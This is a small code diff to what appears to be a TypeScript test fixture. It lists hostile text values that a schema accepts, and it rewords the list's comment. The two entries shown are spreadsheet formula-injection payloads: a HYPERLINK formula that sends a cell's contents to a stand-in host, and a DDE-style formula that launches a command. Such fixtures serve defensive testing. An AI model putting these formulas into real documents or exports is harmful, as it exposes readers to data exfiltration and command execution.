@@ -1,4 +1,4 @@
-/** Texts that a schema accepts and that somebody could enter to harm whoever opens them, by what they try. */
+/** Texts that a schema accepts and that could harm readers of a document, by the kind of attack. */
 export const hostileTexts: readonly (readonly [string, string])[] = [
   ["a formula", '=HYPERLINK("https://hook.example/?x="&A1,"Total")'],
   ["a command of a spreadsheet", "@SUM(1+9)*cmd|' /C calc'!A0"],
